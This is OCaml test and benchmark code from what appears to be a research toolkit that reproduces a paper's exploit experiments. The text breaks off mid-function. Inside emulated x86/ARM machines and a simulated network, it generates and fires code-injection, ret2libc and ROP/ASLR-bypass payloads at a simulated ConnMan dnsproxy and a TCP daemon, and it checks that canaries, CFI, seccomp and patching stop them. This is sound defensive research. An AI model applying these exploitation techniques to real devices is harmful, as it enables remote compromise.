  QCheck.Test.make ~name:"aslr draws stay within entropy range" ~count:100
    QCheck.small_nat
    (fun seed ->
      let profile = Defense.Profile.(with_entropy 8 wx) in
      let p = boot ~profile ~seed x86_spec in
      let delta =
        Layout.libc_base_static Arch.X86 - p.Process.layout.Layout.libc_base
      in
      delta >= 0 && delta < 256 * Mem.page_size && delta mod Mem.page_size = 0)

let () =
  let qt = QCheck_alcotest.to_alcotest in
  Alcotest.run "loader"
    [
      ( "boot+call",
        [
          Alcotest.test_case "x86 boots, PLT call works" `Quick test_x86_boot_and_call;
          Alcotest.test_case "arm boots, PLT call works" `Quick test_arm_boot_and_call;
          Alcotest.test_case "x86 exec reaches kernel" `Quick test_exec_outcome_x86;
          Alcotest.test_case "arm exec reaches kernel" `Quick test_exec_outcome_arm;
          Alcotest.test_case "symbols present" `Quick test_symbols_present;
          Alcotest.test_case "/bin/sh is in libc" `Quick test_bin_sh_lives_in_libc;
          Alcotest.test_case "arm PLT indirection" `Quick test_arm_plt_indirection;
          Alcotest.test_case "GOT eagerly bound" `Quick test_got_filled_with_libc_addrs;
          Alcotest.test_case "every import has PLT+GOT" `Quick
            test_all_imports_have_plt_and_got;
          Alcotest.test_case "heap and env regions" `Quick test_heap_and_env_regions;
          Alcotest.test_case "trap is unmapped" `Quick test_trap_is_unmapped;
          Alcotest.test_case "on_step observer" `Quick test_call_with_step_observer;
        ] );
      ( "protections",
        [
          Alcotest.test_case "text is read-only" `Quick test_text_not_writable;
          Alcotest.test_case "stack NX follows profile" `Quick
            test_stack_nx_per_profile;
          Alcotest.test_case "ASLR moves libc and stack" `Quick
            test_aslr_moves_libc_and_stack;
          Alcotest.test_case "ASLR deterministic per seed" `Quick
            test_aslr_deterministic_per_seed;
          Alcotest.test_case "no ASLR = static bases" `Quick
            test_no_aslr_uses_static_bases;
          Alcotest.test_case "canary cookie per boot" `Quick test_canary_written;
          qt prop_entropy_distribution;
        ] );
    ]
