(* §V "crafted TCP packet" tests: the toolkit retargeted to tcpsvc-sim,
   where payload bytes travel verbatim (no DNS label constraint), so the
   adaptation is a frame swap plus a different packet-crafting step. *)

module O = Machine.Outcome
module D = Tcpsvc.Daemon
open Exploit

let check_bool = Alcotest.(check bool)
let check_int = Alcotest.(check int)

let daemon ?(patched = false) ~arch ~profile ?(seed = 23) () =
  D.create { D.patched; arch; profile; boot_seed = seed }

let tcpsvc_target proc =
  Target.make
    ~frame:(Tcpsvc.Frame.geometry proc.Loader.Process.arch)
    ~buffer_addr:(Tcpsvc.Frame.buffer_addr proc)
    proc

(* Build against an analysis copy, deliver as a framed message with the
   payload bytes verbatim — the §V "modify the packet creation
   algorithm" step. *)
let fire d strategy =
  let analysis =
    D.process
      (daemon ~arch:(D.process d).Loader.Process.arch
         ~profile:(D.process d).Loader.Process.profile ~seed:5151 ())
  in
  match Autogen.build ~analysis:(tcpsvc_target analysis) strategy with
  | Error e -> Alcotest.fail (Format.asprintf "%a" Payload.pp_error e)
  | Ok payload -> D.handle_frame d (D.frame ~tag:(Payload.to_raw_bytes payload))

let expect_shell name d strategy =
  match fire d strategy with
  | D.Compromised reason -> check_bool (name ^ ": shell") true (O.is_shell reason)
  | other -> Alcotest.failf "%s: expected shell, got %a" name D.pp_disposition other

(* --- plumbing --- *)

let test_benign_frame () =
  List.iter
    (fun arch ->
      let d = daemon ~arch ~profile:Defense.Profile.wx () in
      (match D.handle_frame d (D.frame ~tag:"sensor-42") with
      | D.Handled -> ()
      | other -> Alcotest.failf "expected Handled, got %a" D.pp_disposition other);
      (* The tag really landed in the guest buffer. *)
      let proc = D.process d in
      Alcotest.(check string)
        "tag copied" "sensor-42"
        (Memsim.Memory.peek_bytes proc.Loader.Process.mem
           (Tcpsvc.Frame.buffer_addr proc) 9))
    [ Loader.Arch.X86; Loader.Arch.Arm ]

let test_bad_magic_rejected () =
  let d = daemon ~arch:Loader.Arch.X86 ~profile:Defense.Profile.wx () in
  match D.handle_frame d "XXxxgarbage" with
  | D.Rejected _ -> check_bool "alive" true (D.alive d)
  | other -> Alcotest.failf "expected Rejected, got %a" D.pp_disposition other

let test_oversized_tag_crashes () =
  List.iter
    (fun arch ->
      let d = daemon ~arch ~profile:Defense.Profile.wx () in
      match D.handle_frame d (D.frame ~tag:(String.make 8192 'A')) with
      | D.Crashed _ -> check_bool "dead" false (D.alive d)
      | other -> Alcotest.failf "expected crash, got %a" D.pp_disposition other)
    [ Loader.Arch.X86; Loader.Arch.Arm ]

let test_patched_rejects_oversize () =
  let d = daemon ~patched:true ~arch:Loader.Arch.Arm ~profile:Defense.Profile.wx () in
  match D.handle_frame d (D.frame ~tag:(String.make 8192 'A')) with
  | D.Rejected _ -> check_bool "alive" true (D.alive d)
  | other -> Alcotest.failf "expected Rejected, got %a" D.pp_disposition other

(* --- adapted strategies, verbatim carrier --- *)

let test_adapted_matrix () =
  expect_shell "x86 inject"
    (daemon ~arch:Loader.Arch.X86 ~profile:Defense.Profile.none ())
    Autogen.Code_injection;
  expect_shell "arm inject"
    (daemon ~arch:Loader.Arch.Arm ~profile:Defense.Profile.none ())
    Autogen.Code_injection;
  expect_shell "x86 ret2libc"
    (daemon ~arch:Loader.Arch.X86 ~profile:Defense.Profile.wx ())
    Autogen.Ret2libc;
  expect_shell "arm rop-wx"
    (daemon ~arch:Loader.Arch.Arm ~profile:Defense.Profile.wx ())
    Autogen.Rop_wx;
  expect_shell "x86 rop-aslr"
    (daemon ~arch:Loader.Arch.X86 ~profile:Defense.Profile.wx_aslr ())
    Autogen.Rop_aslr;
  expect_shell "arm rop-aslr"
    (daemon ~arch:Loader.Arch.Arm ~profile:Defense.Profile.wx_aslr ())
    Autogen.Rop_aslr

let test_payload_carries_nul_bytes_verbatim () =
  (* The raw carrier's defining property versus DNS labels (and versus
     strcpy-borne exploits): NUL bytes travel untouched.  An ARM chain is
     full of them (r1 = NULL, addresses like 0x00010xxx). *)
  let analysis =
    D.process (daemon ~arch:Loader.Arch.Arm ~profile:Defense.Profile.wx ~seed:5151 ())
  in
  match Autogen.build ~analysis:(tcpsvc_target analysis) Autogen.Rop_wx with
  | Error e -> Alcotest.fail (Format.asprintf "%a" Payload.pp_error e)
  | Ok payload ->
      let bytes = Payload.to_raw_bytes payload in
      let nuls = String.fold_left (fun n c -> if c = '\x00' then n + 1 else n) 0 bytes in
      check_bool "chain contains many NUL bytes" true (nuls > 8);
      let d = daemon ~arch:Loader.Arch.Arm ~profile:Defense.Profile.wx () in
      (match D.handle_frame d (D.frame ~tag:bytes) with
      | D.Compromised r -> check_bool "shell" true (O.is_shell r)
      | other -> Alcotest.failf "expected shell, got %a" D.pp_disposition other);
      (* And the guest buffer holds the payload byte-for-byte. *)
      let proc = D.process d in
      check_int "buffer matches payload prefix" 0
        (compare
           (Memsim.Memory.peek_bytes proc.Loader.Process.mem
              (Tcpsvc.Frame.buffer_addr proc)
              (min 64 (String.length bytes)))
           (String.sub bytes 0 (min 64 (String.length bytes))))

let test_patched_resists_exploits () =
  let d = daemon ~patched:true ~arch:Loader.Arch.Arm ~profile:Defense.Profile.wx () in
  match fire d Autogen.Rop_wx with
  | D.Rejected _ -> check_bool "alive" true (D.alive d)
  | other -> Alcotest.failf "expected Rejected, got %a" D.pp_disposition other

let test_defenses_hold () =
  (let d =
     daemon ~arch:Loader.Arch.Arm
       ~profile:Defense.Profile.(with_canary wx) ()
   in
   match fire d Autogen.Rop_wx with
   | D.Blocked (O.Aborted _) -> ()
   | other -> Alcotest.failf "canary: %a" D.pp_disposition other);
  (let d =
     daemon ~arch:Loader.Arch.Arm ~profile:Defense.Profile.(with_cfi wx) ()
   in
   match fire d Autogen.Rop_wx with
   | D.Blocked (O.Cfi_violation _) -> ()
   | other -> Alcotest.failf "cfi: %a" D.pp_disposition other);
  let d =
    daemon ~arch:Loader.Arch.Arm ~profile:Defense.Profile.(with_seccomp wx) ()
  in
  match fire d Autogen.Rop_wx with
  | D.Blocked (O.Aborted _) -> ()
  | other -> Alcotest.failf "seccomp: %a" D.pp_disposition other

let test_remote_delivery_over_netsim () =
  (* The §V service attacked across the simulated network: an attacker
     host sends the framed payload to the service's port. *)
  let module W = Netsim.World in
  let w = W.create () in
  let lan = W.add_lan w ~name:"lan" in
  let svc_host = W.add_host w ~name:"appliance" in
  W.set_host_ip svc_host (Some (Netsim.Ip.of_string "10.0.0.9"));
  W.attach svc_host lan;
  let d = daemon ~arch:Loader.Arch.Arm ~profile:Defense.Profile.wx_aslr () in
  let last = ref None in
  W.on_udp svc_host ~port:4444 (fun _ dgram ->
      last := Some (D.handle_frame d dgram.W.payload));
  let attacker = W.add_host w ~name:"attacker" in
  W.set_host_ip attacker (Some (Netsim.Ip.of_string "10.0.0.66"));
  W.attach attacker lan;
  let analysis =
    D.process
      (daemon ~arch:Loader.Arch.Arm ~profile:Defense.Profile.wx_aslr ~seed:5151 ())
  in
  (match Autogen.build ~analysis:(tcpsvc_target analysis) Autogen.Rop_aslr with
  | Error e -> Alcotest.fail (Format.asprintf "%a" Payload.pp_error e)
  | Ok payload ->
      W.send w ~from:attacker ~dst:(Netsim.Ip.of_string "10.0.0.9") ~dport:4444
        (D.frame ~tag:(Payload.to_raw_bytes payload)));
  ignore (W.run w);
  match !last with
  | Some (D.Compromised r) -> check_bool "remote shell" true (O.is_shell r)
  | other ->
      Alcotest.failf "expected remote compromise, got %s"
        (match other with
        | Some d -> Format.asprintf "%a" D.pp_disposition d
        | None -> "no frame delivered")

let () =
  Alcotest.run "tcpsvc"
    [
      ( "daemon",
        [
          Alcotest.test_case "benign frame" `Quick test_benign_frame;
          Alcotest.test_case "bad magic rejected" `Quick test_bad_magic_rejected;
          Alcotest.test_case "oversized tag crashes" `Quick
            test_oversized_tag_crashes;
          Alcotest.test_case "patched rejects oversize" `Quick
            test_patched_rejects_oversize;
        ] );
      ( "adapted §III matrix (verbatim carrier)",
        [
          Alcotest.test_case "all six strategies" `Quick test_adapted_matrix;
          Alcotest.test_case "NUL bytes travel verbatim" `Quick
            test_payload_carries_nul_bytes_verbatim;
          Alcotest.test_case "patched resists" `Quick test_patched_resists_exploits;
          Alcotest.test_case "defenses hold" `Quick test_defenses_hold;
          Alcotest.test_case "remote delivery over netsim" `Quick
            test_remote_delivery_over_netsim;
        ] );
    ]
