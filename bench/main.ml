(* Benchmark harness.

   Part 1 regenerates every experiment row of the paper (the §III matrix,
   §III-D delivery, the firmware survey, and the §IV ablations) — the
   "tables" of this experience report.

   Part 2 times the moving parts with Bechamel: wire codec, label
   planning, machine-level parsing, process boot, gadget scanning,
   payload generation, and the end-to-end exploits.

     dune exec bench/main.exe *)

open Bechamel
open Toolkit
module Dnsproxy = Connman.Dnsproxy
module Autogen = Exploit.Autogen
module Profile = Defense.Profile

let lookup = Dns.Name.of_string "ipv4.connman.net"

(* ------------------------------------------------------------------ *)
(* Part 1: the experiment tables                                       *)
(* ------------------------------------------------------------------ *)

let print_experiments () =
  Format.printf "@.=== Experiment reproduction (paper rows vs observed) ===@.@.";
  let rows = Core.Experiments.all ~seed:1 () in
  Format.printf "%a@." Core.Experiments.pp_table rows

(* ------------------------------------------------------------------ *)
(* Part 2: timing benches                                              *)
(* ------------------------------------------------------------------ *)

let mk_config ?(version = Connman.Version.v1_34) arch profile seed =
  { Dnsproxy.version; arch; profile; boot_seed = seed; diversity_seed = None }

let benign_wire d =
  let query = Dnsproxy.make_query d lookup in
  Dns.Packet.encode
    (Dns.Packet.response ~query
       [ Dns.Packet.a_record lookup ~ttl:300 ~ipv4:0x5DB8D822 ])

(* Pre-built inputs shared across iterations. *)
let benign_msg =
  Dns.Packet.response
    ~query:(Dns.Packet.query ~id:77 lookup Dns.Packet.A)
    [ Dns.Packet.a_record lookup ~ttl:300 ~ipv4:0x5DB8D822 ]

let benign_bytes = Dns.Packet.encode benign_msg

let test_dns_encode =
  Test.make ~name:"dns/encode"
    (Staged.stage (fun () -> ignore (Dns.Packet.encode benign_msg)))

let test_dns_decode =
  Test.make ~name:"dns/decode"
    (Staged.stage (fun () -> ignore (Dns.Packet.decode benign_bytes)))

let chain_spec =
  Dns.Craft.spec_concat
    [
      Dns.Craft.spec_any 1024;
      Dns.Craft.spec_fixed (String.make 8 '\x00');
      Dns.Craft.spec_any 28;
      Dns.Craft.spec_fixed "\x8c\x01\x01\x00";
      Dns.Craft.spec_any 120;
    ]

let test_plan_labels =
  Test.make ~name:"dns/plan-labels-1k"
    (Staged.stage (fun () -> ignore (Dns.Craft.plan_labels chain_spec)))

(* Machine-level parse of a benign response: per-arch instruction counts
   are fixed, so time/op measures emulator speed on the real workload. *)
let parse_bench arch =
  let d = Dnsproxy.create (mk_config arch Profile.wx 9) in
  let proc = Dnsproxy.process d in
  let entry = Loader.Process.symbol proc "parse_response" in
  let buf = proc.Loader.Process.layout.Loader.Layout.heap_base in
  let wire = benign_wire d in
  Memsim.Memory.write_bytes proc.Loader.Process.mem buf wire;
  fun () ->
    ignore
      (Loader.Process.call proc ~fuel:100_000 ~entry
         ~args:[ buf; String.length wire ])

let test_parse_x86 =
  Test.make ~name:"cpu/parse-response-x86" (Staged.stage (parse_bench Loader.Arch.X86))

let test_parse_arm =
  Test.make ~name:"cpu/parse-response-arm" (Staged.stage (parse_bench Loader.Arch.Arm))

let boot_bench arch =
  let counter = ref 0 in
  fun () ->
    incr counter;
    ignore (Dnsproxy.create (mk_config arch Profile.wx_aslr !counter))

let test_boot_x86 =
  Test.make ~name:"boot/connmand-x86" (Staged.stage (boot_bench Loader.Arch.X86))

let test_boot_arm =
  Test.make ~name:"boot/connmand-arm" (Staged.stage (boot_bench Loader.Arch.Arm))

let gadget_bench arch =
  let proc = Dnsproxy.process (Dnsproxy.create (mk_config arch Profile.wx 9)) in
  match arch with
  | Loader.Arch.X86 ->
      fun () -> ignore (Exploit.Gadget.scan_x86 proc ~regions:[ ".text" ])
  | Loader.Arch.Arm ->
      fun () -> ignore (Exploit.Gadget.scan_arm proc ~regions:[ ".text" ])

let test_gadgets_x86 =
  Test.make ~name:"gadget/scan-x86" (Staged.stage (gadget_bench Loader.Arch.X86))

let test_gadgets_arm =
  Test.make ~name:"gadget/scan-arm" (Staged.stage (gadget_bench Loader.Arch.Arm))

(* Payload generation per experiment cell (E1–E6): the attacker-side
   offline cost. *)
let payload_bench (arch, profile, strategy) =
  let analysis = Dnsproxy.process (Dnsproxy.create (mk_config arch profile 9)) in
  fun () ->
    match Autogen.generate ~analysis:(Exploit.Target.connman analysis) ~strategy () with
    | Ok _ -> ()
    | Error e -> failwith e

let payload_tests =
  List.map
    (fun (name, cell) -> Test.make ~name (Staged.stage (payload_bench cell)))
    [
      ("payload/E1-inject-x86", (Loader.Arch.X86, Profile.none, Autogen.Code_injection));
      ("payload/E2-inject-arm", (Loader.Arch.Arm, Profile.none, Autogen.Code_injection));
      ("payload/E3-ret2libc-x86", (Loader.Arch.X86, Profile.wx, Autogen.Ret2libc));
      ("payload/E4-ropwx-arm", (Loader.Arch.Arm, Profile.wx, Autogen.Rop_wx));
      ("payload/E5-ropaslr-x86", (Loader.Arch.X86, Profile.wx_aslr, Autogen.Rop_aslr));
      ("payload/E6-ropaslr-arm", (Loader.Arch.Arm, Profile.wx_aslr, Autogen.Rop_aslr));
    ]

(* End-to-end exploit latency: boot a fresh victim and pop a shell. *)
let end_to_end_bench (arch, profile, strategy) =
  let analysis = Dnsproxy.process (Dnsproxy.create (mk_config arch profile 9)) in
  let _, raw_name =
    match Autogen.generate ~analysis:(Exploit.Target.connman analysis) ~strategy () with
    | Ok r -> r
    | Error e -> failwith e
  in
  let counter = ref 100 in
  fun () ->
    incr counter;
    let victim = Dnsproxy.create (mk_config arch profile !counter) in
    let query = Dnsproxy.make_query victim lookup in
    match Dnsproxy.handle_response victim (Autogen.response_for ~query ~raw_name) with
    | Dnsproxy.Compromised _ -> ()
    | other ->
        failwith (Format.asprintf "%a" Dnsproxy.pp_disposition other)

let end_to_end_tests =
  List.map
    (fun (name, cell) -> Test.make ~name (Staged.stage (end_to_end_bench cell)))
    [
      ("exploit/E5-end-to-end", (Loader.Arch.X86, Profile.wx_aslr, Autogen.Rop_aslr));
      ("exploit/E6-end-to-end", (Loader.Arch.Arm, Profile.wx_aslr, Autogen.Rop_aslr));
    ]

(* §V adaptation benches: parse + end-to-end exploit on the other targets. *)
let dnsmasq_parse_bench arch =
  let module D = Dnsmasq.Daemon in
  let d =
    D.create { D.patched = false; arch; profile = Profile.wx; boot_seed = 9 }
  in
  fun () ->
    let query = D.make_query d lookup in
    let wire =
      Dns.Packet.encode
        (Dns.Packet.response ~query
           [ Dns.Packet.a_record lookup ~ttl:60 ~ipv4:1 ])
    in
    ignore (D.handle_response d wire)

let test_dnsmasq_parse =
  Test.make ~name:"cpu/parse-dnsmasq-arm"
    (Staged.stage (dnsmasq_parse_bench Loader.Arch.Arm))

let tcpsvc_exploit_bench () =
  let module D = Tcpsvc.Daemon in
  let arch = Loader.Arch.Arm and profile = Profile.wx_aslr in
  let analysis =
    D.process (D.create { D.patched = false; arch; profile; boot_seed = 9 })
  in
  let target =
    Exploit.Target.make
      ~frame:(Tcpsvc.Frame.geometry arch)
      ~buffer_addr:(Tcpsvc.Frame.buffer_addr analysis)
      analysis
  in
  let payload =
    match Autogen.build ~analysis:target Autogen.Rop_aslr with
    | Ok p -> Exploit.Payload.to_raw_bytes p
    | Error _ -> failwith "tcpsvc payload"
  in
  let counter = ref 0 in
  fun () ->
    incr counter;
    let d = D.create { D.patched = false; arch; profile; boot_seed = !counter } in
    match D.handle_frame d (D.frame ~tag:payload) with
    | D.Compromised _ -> ()
    | _ -> failwith "tcpsvc exploit failed"

let test_tcpsvc_exploit =
  Test.make ~name:"exploit/tcpsvc-rop-aslr-arm" (Staged.stage (tcpsvc_exploit_bench ()))

let test_pineapple =
  Test.make ~name:"scenario/pineapple"
    (let counter = ref 0 in
     Staged.stage (fun () ->
         incr counter;
         let config = mk_config Loader.Arch.Arm Profile.wx_aslr !counter in
         match Core.Scenario.pineapple_attack ~seed:!counter ~config () with
         | Ok _ -> ()
         | Error e -> failwith e))

(* ------------------------------------------------------------------ *)
(* Cache benches                                                       *)
(* ------------------------------------------------------------------ *)

let cache_name i = Printf.sprintf "host-%07d.bench.example" i

(* Fixtures are lazy (the default bench run shouldn't pay 100k prefills
   unless the cache benches execute) but are forced *before* Bechamel
   measures, so prefill cost never pollutes the per-op estimates.  Each
   bench gets its own fixture: they mutate the cache they run against. *)
let prefilled_cache n =
  lazy
    (let names = Array.init n cache_name in
     let c = Dns.Cache.create ~capacity:n () in
     Array.iteri
       (fun i name ->
         Dns.Cache.insert c ~now:0 ~name ~ttl:1_000_000 ~ipv4:(i + 1))
       names;
     (c, names))

let fx_insert_1k = prefilled_cache 1_000
let fx_insert_100k = prefilled_cache 100_000
let fx_lookup_1k = prefilled_cache 1_000
let fx_lookup_100k = prefilled_cache 100_000
let fx_evict_1k = prefilled_cache 1_000
let fx_evict_100k = prefilled_cache 100_000

let cache_fixtures =
  [
    fx_insert_1k; fx_insert_100k; fx_lookup_1k; fx_lookup_100k; fx_evict_1k;
    fx_evict_100k;
  ]

let force_cache_fixtures () =
  List.iter (fun fx -> ignore (Lazy.force fx)) cache_fixtures

(* Steady-state store over an existing key (the replacement path). *)
let cache_insert_bench fx =
  let k = ref 0 in
  fun () ->
    let c, names = Lazy.force fx in
    k := (!k + 1) mod Array.length names;
    Dns.Cache.insert c ~now:1 ~name:names.(!k) ~ttl:1_000_000 ~ipv4:7

let cache_lookup_bench fx =
  let k = ref 0 in
  fun () ->
    let c, names = Lazy.force fx in
    k := (!k + 1) mod Array.length names;
    ignore (Dns.Cache.lookup c ~now:1 names.(!k))

(* Every insert lands on a full cache of live entries and must evict a
   victim — the O(n) Hashtbl.fold hot spot of the seed implementation,
   now O(log n) against the shard's expiry heap. *)
let cache_evict_bench fx =
  let k = ref 0 in
  fun () ->
    let c, _ = Lazy.force fx in
    incr k;
    Dns.Cache.insert c ~now:1
      ~name:(Printf.sprintf "fresh-%09d.bench.example" !k)
      ~ttl:1_000_000 ~ipv4:!k

(* High-churn episode on the Netsim event clock: bursts of mixed ops
   with short TTLs while simulated time advances, so expiry sweeps,
   evictions, replacements, and negative entries all fire. *)
let cache_churn_bench () =
  let episode = ref 0 in
  fun () ->
    incr episode;
    let sim = Netsim.Sim.create ~seed:!episode () in
    let c = Dns.Cache.create ~capacity:512 () in
    let rng = Netsim.Sim.rng sim in
    let remaining = ref 64 in
    let rec burst sim =
      let now = Netsim.Sim.now sim / 1_000_000 in
      for _ = 1 to 32 do
        let name = cache_name (Memsim.Rng.int rng 2048) in
        match Memsim.Rng.int rng 4 with
        | 0 ->
            Dns.Cache.insert c ~now ~name
              ~ttl:(1 + Memsim.Rng.int rng 8)
              ~ipv4:1
        | 1 ->
            Dns.Cache.insert_negative c ~now ~name
              ~ttl:(1 + Memsim.Rng.int rng 4)
        | _ -> ignore (Dns.Cache.lookup c ~now name)
      done;
      decr remaining;
      if !remaining > 0 then Netsim.Sim.schedule sim ~delay:500_000 burst
    in
    Netsim.Sim.schedule sim ~delay:0 burst;
    ignore (Netsim.Sim.run sim)

let cache_tests =
  [
    Test.make ~name:"cache/insert-1k"
      (Staged.stage (cache_insert_bench fx_insert_1k));
    Test.make ~name:"cache/insert-100k"
      (Staged.stage (cache_insert_bench fx_insert_100k));
    Test.make ~name:"cache/lookup-1k"
      (Staged.stage (cache_lookup_bench fx_lookup_1k));
    Test.make ~name:"cache/lookup-100k"
      (Staged.stage (cache_lookup_bench fx_lookup_100k));
    Test.make ~name:"cache/insert-at-capacity-1k"
      (Staged.stage (cache_evict_bench fx_evict_1k));
    Test.make ~name:"cache/insert-at-capacity-100k"
      (Staged.stage (cache_evict_bench fx_evict_100k));
    Test.make ~name:"cache/churn-sim" (Staged.stage (cache_churn_bench ()));
  ]

let all_tests =
  [
    test_dns_encode;
    test_dns_decode;
    test_plan_labels;
    test_parse_x86;
    test_parse_arm;
    test_boot_x86;
    test_boot_arm;
    test_gadgets_x86;
    test_gadgets_arm;
  ]
  @ payload_tests @ end_to_end_tests
  @ [ test_dnsmasq_parse; test_tcpsvc_exploit; test_pineapple ]
  @ cache_tests

let ols = Analyze.ols ~bootstrap:0 ~r_square:true ~predictors:[| Measure.run |]

(* Time one Bechamel test element: (ns/run, r²). *)
let measure_elt cfg elt =
  let raw = Benchmark.run cfg Instance.[ monotonic_clock ] elt in
  let result = Analyze.one ols Instance.monotonic_clock raw in
  let nanos =
    match Analyze.OLS.estimates result with Some [ est ] -> est | _ -> nan
  in
  let r2 = Option.value (Analyze.OLS.r_square result) ~default:nan in
  (nanos, r2)

let pretty_nanos nanos =
  if nanos > 1e9 then Printf.sprintf "%8.3f  s" (nanos /. 1e9)
  else if nanos > 1e6 then Printf.sprintf "%8.3f ms" (nanos /. 1e6)
  else if nanos > 1e3 then Printf.sprintf "%8.3f us" (nanos /. 1e3)
  else Printf.sprintf "%8.1f ns" nanos

let run_benchmarks () =
  Format.printf "@.=== Timing benches (Bechamel, monotonic clock) ===@.@.";
  force_cache_fixtures ();
  let cfg =
    Benchmark.cfg ~limit:2000 ~quota:(Time.second 0.25) ~stabilize:false ()
  in
  Format.printf "%-32s %16s %12s@." "bench" "time/run" "r^2";
  Format.printf "%s@." (String.make 64 '-');
  List.iter
    (fun test ->
      List.iter
        (fun elt ->
          let nanos, r2 = measure_elt cfg elt in
          Format.printf "%-32s %16s %12.4f@." (Test.Elt.name elt)
            (pretty_nanos nanos) r2)
        (Test.elements test))
    all_tests

(* ------------------------------------------------------------------ *)
(* Shared bench JSON schema ("bench-suite-v1")                         *)
(*                                                                     *)
(* Every BENCH_*.json file is the same shape: run metadata (suite,     *)
(* smoke flag, extra suite-specific keys) plus a flat result list of   *)
(* {name, unit, value, ...extras}.  Downstream tooling reads one       *)
(* schema instead of three.                                            *)
(* ------------------------------------------------------------------ *)

type bench_row = {
  br_name : string;
  br_unit : string;  (** "ns_per_op", "ns_per_run", "ratio", ... *)
  br_value : float;
  br_extra : (string * float) list;  (** e.g. ops_per_sec, r_square *)
}

let bench_row ?(extra = []) name unit value =
  { br_name = name; br_unit = unit; br_value = value; br_extra = extra }

let write_bench_json ~suite ~smoke ?(meta = []) ~out rows =
  let safe f = if Float.is_nan f then 0.0 else f in
  let buf = Buffer.create 2048 in
  Buffer.add_string buf "{\n";
  Buffer.add_string buf "  \"schema\": \"bench-suite-v1\",\n";
  Buffer.add_string buf (Printf.sprintf "  \"suite\": %S,\n" suite);
  Buffer.add_string buf (Printf.sprintf "  \"smoke\": %b,\n" smoke);
  List.iter
    (fun (k, v) -> Buffer.add_string buf (Printf.sprintf "  %S: %s,\n" k v))
    meta;
  Buffer.add_string buf "  \"results\": [\n";
  let n = List.length rows in
  List.iteri
    (fun i r ->
      Buffer.add_string buf
        (Printf.sprintf "    {\"name\": %S, \"unit\": %S, \"value\": %.4f"
           r.br_name r.br_unit (safe r.br_value));
      List.iter
        (fun (k, v) ->
          Buffer.add_string buf (Printf.sprintf ", %S: %.4f" k (safe v)))
        r.br_extra;
      Buffer.add_string buf
        (Printf.sprintf "}%s\n" (if i < n - 1 then "," else "")))
    rows;
  Buffer.add_string buf "  ]\n}\n";
  let json = Buffer.contents buf in
  (match Telemetry.Json.validate json with
  | Ok () -> ()
  | Error e -> failwith (Printf.sprintf "%s: emitted invalid JSON (%s)" out e));
  let oc = open_out out in
  output_string oc json;
  close_out oc;
  Format.printf "@.wrote %s@." out

(* ------------------------------------------------------------------ *)
(* Cache perf trajectory: BENCH_cache.json                             *)
(*                                                                     *)
(*   dune exec bench/main.exe -- cache            (full measurement)   *)
(*   dune exec bench/main.exe -- cache --smoke    (few iterations)     *)
(*   dune build @cache-bench-smoke                (dune smoke target)  *)
(* ------------------------------------------------------------------ *)

let run_cache_json ~smoke ~out () =
  force_cache_fixtures ();
  let cfg =
    if smoke then
      Benchmark.cfg ~limit:50 ~quota:(Time.second 0.01) ~stabilize:false ()
    else Benchmark.cfg ~limit:2000 ~quota:(Time.second 0.25) ~stabilize:false ()
  in
  Format.printf "=== Cache benches%s ===@.@."
    (if smoke then " (smoke: few iterations)" else "");
  let rows =
    List.concat_map
      (fun test ->
        List.map
          (fun elt ->
            let nanos, r2 = measure_elt cfg elt in
            let name = Test.Elt.name elt in
            Format.printf "%-32s %16s %12.4f@." name (pretty_nanos nanos) r2;
            (name, nanos, r2))
          (Test.elements test))
      cache_tests
  in
  write_bench_json ~suite:"cache" ~smoke ~out
    (List.map
       (fun (name, nanos, r2) ->
         let nanos = if Float.is_nan nanos then 0.0 else nanos in
         let ops = if nanos > 0.0 then 1e9 /. nanos else 0.0 in
         bench_row name "ns_per_op" nanos
           ~extra:[ ("ops_per_sec", ops); ("r_square", r2) ])
       rows)

(* ------------------------------------------------------------------ *)
(* CPU interpreter benches: BENCH_cpu.json                             *)
(*                                                                     *)
(*   dune exec bench/main.exe -- cpu              (full measurement)   *)
(*   dune exec bench/main.exe -- cpu --smoke      (few iterations)     *)
(*   dune build @cpu-bench-smoke                  (dune smoke target)  *)
(*                                                                     *)
(* Each workload is a counted loop of a few thousand instructions run  *)
(* to [Hlt] / [svc] on a private address space; the harness resets the *)
(* registers and flags between invocations so Bechamel measures the    *)
(* steady state.  Every workload is timed twice — decoded-instruction  *)
(* cache on and off — on the same program bytes, which is exactly the  *)
(* speedup the tentpole claims.  The self-modifying variants store     *)
(* into their own text page every iteration, so with the cache on they *)
(* measure the generation-check/re-decode invalidation path rather     *)
(* than the hit path.                                                  *)
(* ------------------------------------------------------------------ *)

module Mem = Memsim.Memory

type cpu_work = {
  cw_name : string;
  cw_steps : int;  (** instructions retired per invocation *)
  cw_cached : unit -> unit;
  cw_uncached : unit -> unit;
}

let x86_text_base = 0x0804_8000
let x86_stack_base = 0x0810_0000

let x86_runner ~perm ~icache program =
  let mem = Mem.create () in
  let r = Isa_x86.Asm.assemble ~base:x86_text_base program in
  Mem.map mem ~base:x86_text_base ~size:Mem.page_size ~perm ~name:".text";
  Mem.poke_bytes mem x86_text_base r.Isa_x86.Asm.code;
  Mem.map mem ~base:x86_stack_base ~size:0x4000 ~perm:Mem.rw ~name:"stack";
  let cpu = Isa_x86.Cpu.create ~icache mem in
  let kernel _ _ = Machine.Outcome.Resume in
  let run () =
    Array.fill cpu.Isa_x86.Cpu.regs 0 8 0;
    Isa_x86.Cpu.set cpu Isa_x86.Insn.ESP (x86_stack_base + 0x3000);
    cpu.Isa_x86.Cpu.eip <- x86_text_base;
    cpu.Isa_x86.Cpu.zf <- false;
    cpu.Isa_x86.Cpu.sf <- false;
    cpu.Isa_x86.Cpu.cf <- false;
    cpu.Isa_x86.Cpu.o_f <- false;
    cpu.Isa_x86.Cpu.steps <- 0;
    match Isa_x86.Cpu.run ~fuel:10_000_000 ~traps:[] ~kernel cpu with
    | Machine.Outcome.Halted -> ()
    | other ->
        failwith
          (Format.asprintf "cpu bench: %a" Machine.Outcome.pp other)
  in
  (run, cpu)

let arm_text_base = 0x0001_0000
let arm_stack_base = 0x0010_0000

let arm_runner ~perm ~icache program =
  let mem = Mem.create () in
  let r = Isa_arm.Asm.assemble ~base:arm_text_base program in
  Mem.map mem ~base:arm_text_base ~size:Mem.page_size ~perm ~name:".text";
  Mem.poke_bytes mem arm_text_base r.Isa_arm.Asm.code;
  Mem.map mem ~base:arm_stack_base ~size:0x4000 ~perm:Mem.rw ~name:"stack";
  let cpu = Isa_arm.Cpu.create ~icache mem in
  (* svc 0 is the resumable "syscall"; svc 1 halts the workload. *)
  let kernel n _ =
    if n = 0 then Machine.Outcome.Resume
    else Machine.Outcome.Stop Machine.Outcome.Halted
  in
  let run () =
